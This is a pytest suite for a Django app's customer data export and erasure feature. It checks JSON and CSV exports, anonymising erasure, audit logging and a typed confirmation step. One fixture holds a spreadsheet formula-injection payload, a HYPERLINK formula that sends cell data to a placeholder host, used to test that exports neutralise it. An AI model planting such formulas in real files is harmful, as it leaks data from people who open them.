"""One customer's data: an administrator exports all of it (JSON, a zip of CSV files) and
erases it on request; the stub that stays identifies nobody and every figure is unchanged."""

import csv
import io
import json
import zipfile

import pytest
from django.apps import apps
from django.db import models
from django.urls import reverse

from manyi.analytics import counts
from manyi.customers.models import Customer, Interaction, Purchase
from manyi.privacy.choices import AuditAction
from manyi.privacy.models import AuditEvent, Erasure
from manyi.surveys.models import Answer, Response
from tests.factories import (
    ContactPointFactory,
    CustomerFactory,
    InteractionFactory,
    InvitationFactory,
    PurchaseFactory,
    PurchaseItemFactory,
)
from tests.privacy.test_retention import answer, clock, figures, survey  # noqa: F401

NAME = "Wang Xiaoming"
PHONE = "13912345678"
EMAIL = "wang.xiaoming@example.com"
ADDRESS = "Shanghai Pudong Century Avenue 100"
NOTE = "Wang prefers calls after 6pm"
OPEN_TEXT = "Wang here: the courier Li was rude"
SECRETS = [NAME, PHONE, EMAIL, ADDRESS, NOTE, OPEN_TEXT, "CUST-WANG-1", "ORDER-WANG-1"]


@pytest.fixture
def wang(survey, team_east, clock):  # noqa: F811
    customer = CustomerFactory(
        name=NAME,
        external_id="CUST-WANG-1",
        team=team_east,
        occupation="Teacher at No. 3 School",
        city="Pudong",
        notes=NOTE,
        consent_phone=True,
    )
    ContactPointFactory(customer=customer, kind="phone", value=PHONE)
    ContactPointFactory(customer=customer, kind="email", value=EMAIL)
    ContactPointFactory(customer=customer, kind="address", value=ADDRESS)
    first = PurchaseFactory(customer=customer, external_id="ORDER-WANG-1", purchased_at=clock.now)
    PurchaseItemFactory(purchase=first)
    PurchaseItemFactory(purchase=first)
    PurchaseItemFactory(purchase=PurchaseFactory(customer=customer, purchased_at=clock.now))
    InteractionFactory(
        customer=customer,
        team=team_east,
        kind="complaint",
        subject=f"Complaint from {NAME}",
        content=f'=HYPERLINK("http://x/?"&A1,"click") call {PHONE}',
        occurred_at=clock.now,
    )
    invitation = InvitationFactory(
        survey=survey, customer=customer, channel="email", address=EMAIL, sent_at=clock.now
    )
    answer(survey, 2, customer=customer, why_low=OPEN_TEXT, invitation=invitation)
    answer(survey, 5, customer=customer)
    return customer


@pytest.fixture
def others(survey, team_east, clock):  # noqa: F811
    """Another customer's rows, which no export or erasure of Wang may touch."""
    other = CustomerFactory(name="Zhao Lei", team=team_east)
    ContactPointFactory(customer=other, kind="phone", value="13700000001")
    PurchaseItemFactory(purchase=PurchaseFactory(customer=other, purchased_at=clock.now))
    InteractionFactory(customer=other, team=team_east, occurred_at=clock.now)
    answer(survey, 1, customer=other, why_low="Zhao: fine")
    return other


def _expected_ids(customer):
    return {
        "customer": {customer.pk},
        "contact_points": set(customer.contacts.values_list("pk", flat=True)),
        "purchases": set(customer.purchases.values_list("pk", flat=True)),
        "purchase_items": set(
            Purchase.objects.filter(customer=customer).values_list("items__pk", flat=True)
        ),
        "interactions": set(customer.interactions.values_list("pk", flat=True)),
        "invitations": set(customer.invitations.values_list("pk", flat=True)),
        "responses": set(Response.objects.filter(customer=customer).values_list("pk", flat=True)),
        "answers": set(
            Answer.objects.filter(response__customer=customer).values_list("pk", flat=True)
        ),
    }


def test_admin_exports_every_row_about_a_customer_as_json(client, admin_user, wang, others):
    client.force_login(admin_user)
    # when
    response = client.get(reverse("privacy:customer_export", args=[wang.pk, "json"]))
    # then: every related row, with its columns, and nothing of anyone else
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
    data = json.loads(response.content)["tables"]
    expected = _expected_ids(wang)
    assert {name: {row["id"] for row in data[name]} for name in expected} == expected
    assert all(len(ids) >= 1 for ids in expected.values())
    assert len(expected["purchase_items"]) == 3 and len(expected["answers"]) >= 4
    assert {c["value"] for c in data["contact_points"]} == {PHONE, EMAIL, ADDRESS}
    assert data["customer"][0]["name"] == NAME
    assert OPEN_TEXT in {a["text"] for a in data["answers"]}
    assert "Zhao Lei" not in response.content.decode()
    # and the export is in the audit log
    event = AuditEvent.objects.get(action=AuditAction.EXPORT, customer_id=wang.pk)
    assert event.actor == admin_user and event.detail["format"] == "json"


def test_admin_exports_a_customer_as_a_zip_of_neutralised_csv_files(client, admin_user, wang):
    client.force_login(admin_user)
    response = client.get(reverse("privacy:customer_export", args=[wang.pk, "zip"]))
    assert response.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    expected = _expected_ids(wang)
    assert {f"{name}.csv" for name in expected} <= set(archive.namelist())
    for name, ids in expected.items():
        text = archive.read(f"{name}.csv").decode("utf-8-sig")
        rows = list(csv.DictReader(io.StringIO(text)))
        assert {int(row["id"]) for row in rows} == ids, name
    interactions = list(
        csv.DictReader(io.StringIO(archive.read("interactions.csv").decode("utf-8-sig")))
    )
    # written through core.tabular: a formula goes out as text
    assert interactions[0]["content"].startswith("'=HYPERLINK")


def _text_fields(model):
    return [
        f.name
        for f in model._meta.concrete_fields
        if isinstance(f, models.CharField | models.TextField | models.JSONField)
    ]


def _rows_holding(secret: str) -> list[str]:
    """Every text column of every table (JSON included) that holds `secret` in some row."""
    found = []
    for model in apps.get_models():
        for name in _text_fields(model):
            if isinstance(model._meta.get_field(name), models.JSONField):
                values = model.objects.values_list(name, flat=True)
                holds = any(secret.lower() in json.dumps(v).lower() for v in values)
            else:
                holds = model.objects.filter(**{f"{name}__icontains": secret}).exists()
            if holds:
                found.append(f"{model._meta.label}.{name}")
    return found


def test_erasing_a_customer_leaves_nothing_that_identifies_and_every_figure(
    client,
    admin_user,
    wang,
    others,
    clock,  # noqa: F811
):
    # given: the count tables filled, and the figures the dashboards show
    counts.fill(now=clock.now)
    before = figures()
    answers_before = sorted(
        Answer.objects.filter(response__customer=wang)
        .exclude(number=None)
        .values_list("pk", "question_id", "dimension_id", "role", "number")
    )
    assert all(_rows_holding(secret) for secret in SECRETS)  # the search finds what is there
    client.force_login(admin_user)
    # when
    response = client.post(
        reverse("privacy:customer_erase", args=[wang.pk]), {"confirm": str(wang.pk)}
    )
    # then
    assert response.status_code == 302
    for secret in SECRETS:
        assert _rows_holding(secret) == [], secret
    stub = Customer.objects.get(pk=wang.pk)
    assert stub.name == f"#{wang.pk}" and stub.external_id is None
    assert not stub.contacts.exists()
    assert Erasure.objects.filter(customer=stub).exists()
    # responses, ratings, purchases and interactions stay, so do all the figures
    assert (
        sorted(
            Answer.objects.filter(response__customer=wang)
            .exclude(number=None)
            .values_list("pk", "question_id", "dimension_id", "role", "number")
        )
        == answers_before
    )
    assert Purchase.objects.filter(customer=stub).count() == 2
    assert Interaction.objects.filter(customer=stub, kind="complaint").count() == 1
    assert figures() == before
    counts.rebuild(now=clock.now)
    assert figures() == before
    # the other customer is untouched, and the erasure is in the audit log
    others.refresh_from_db()
    assert others.name == "Zhao Lei" and others.contacts.count() == 1
    assert Answer.objects.filter(text="Zhao: fine").exists()
    event = AuditEvent.objects.get(action=AuditAction.ERASE)
    assert (event.customer_id, event.actor) == (wang.pk, admin_user)
    assert event.detail["contact_points"] == 3


def test_erasure_needs_the_customer_id_typed(client, admin_user, wang):
    client.force_login(admin_user)
    url = reverse("privacy:customer_erase", args=[wang.pk])
    assert client.get(url).status_code == 200
    response = client.post(url, {"confirm": "yes"})
    assert response.status_code == 400
    wang.refresh_from_db()
    assert wang.name == NAME and wang.contacts.count() == 3
    assert not AuditEvent.objects.filter(action=AuditAction.ERASE).exists()
